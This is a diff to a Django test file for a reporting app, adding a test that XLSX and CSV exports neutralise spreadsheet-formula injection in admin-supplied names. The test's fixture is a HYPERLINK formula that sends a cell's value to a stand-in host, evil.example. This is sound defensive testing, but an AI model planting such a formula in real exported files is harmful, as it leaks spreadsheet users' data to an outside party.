@@ -24,7 +24,7 @@ from coordination.models import (
 )
 from coordination.services import AlreadyDone, deadlines_scan, report_save_draft
 from notifications.models import Notification
-from org.models import Structure
+from org.models import Structure, Unit
 from workflows import reporting, services
 from workflows.flows import DirectiveFlow, UnitAssignmentFlow
 
@@ -373,6 +373,27 @@ def test_xlsx_totals_equal_the_sums_of_accepted_reports(period, user, client):
     lines = list(csv.reader(io.StringIO(text)))
     assert len(lines) == 5 and lines[-1][0] == "TỔNG CỘNG"
     assert Decimal(lines[-1][5 + codes.index("sms_sent")]) == _sum(accepted, "sms_sent")
+
+
+def test_exports_write_formulas_as_text_and_figures_as_numbers(period, user, client):
+    """Unit and indicator names come from admin: one that starts like a formula stays text in XLSX and CSV."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    Unit.objects.filter(structure=Structure.CURRENT, codename=COMMUNES[0]).update(name=formula)
+    period.indicators[2]["name"] = "+1+1"  # clusters_total, frozen into the period
+    period.save(update_fields=["indicators"])
+    _walk_to_accepted(period, user)
+    client.force_login(user("phongtt"))
+    book = load_workbook(io.BytesIO(client.get(f"/coordination/reports/{period.pk}/export.xlsx").content))
+    sheet = book["Xã, phường"]
+    first = next(sheet.iter_rows(min_row=3, max_row=3))
+    assert first[1].value == "'" + formula and first[1].data_type == "s"
+    assert sheet.cell(row=2, column=8).value == "'+1+1 (cụm)"
+    assert first[7].value == figures(1)["clusters_total"] and first[7].data_type == "n"
+    assert [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
+    text = client.get(f"/coordination/reports/{period.pk}/export.csv").content.decode("utf-8-sig")
+    lines = list(csv.reader(io.StringIO(text)))
+    assert lines[0][7] == "'+1+1 (cụm)" and lines[1][1] == "'" + formula
+    assert lines[1][7] == str(figures(1)["clusters_total"])
 
 
 def test_aggregate_and_completeness_pages(period, user, client):
